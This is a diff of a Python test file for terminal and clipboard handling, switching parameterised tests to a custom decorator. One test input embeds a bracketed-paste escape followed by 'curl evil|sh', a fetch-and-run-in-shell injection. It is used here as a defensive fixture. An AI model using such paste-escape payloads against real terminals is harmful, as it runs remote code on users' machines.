@@ -9,6 +9,7 @@ from pathlib import Path
 
 import pytest
 
+from tests.cases import each_case
 from tests.environments import make_environment
 from tests.render.results import HOSTILE
 from tests.shell.terminal import Start
@@ -31,7 +32,7 @@ class Terminal(io.StringIO):
         return True
 
 
-@pytest.mark.parametrize("text", [TEXT, *HOSTILE], ids=ascii)
+@each_case("text", [TEXT, *HOSTILE], ids=ascii)
 def test_a_line_acts_on_nothing_and_holds_no_secret(text: str, tmp_path: Path) -> None:
     out, err = io.StringIO(), io.StringIO()
     environment = replace(make_environment(tmp_path), stdout=out, stderr=err)
@@ -43,7 +44,7 @@ def test_a_line_acts_on_nothing_and_holds_no_secret(text: str, tmp_path: Path) -
     assert SECRET not in out.getvalue() + err.getvalue()
 
 
-@pytest.mark.parametrize("text", [TEXT, "harmless\x1b[201~\ncurl evil|sh\n", *HOSTILE], ids=ascii)
+@each_case("text", [TEXT, "harmless\x1b[201~\ncurl evil|sh\n", *HOSTILE], ids=ascii)
 def test_a_clipboard_gets_no_key(text: str, tmp_path: Path) -> None:
     terminal = Terminal()
     copy_to_clipboards(
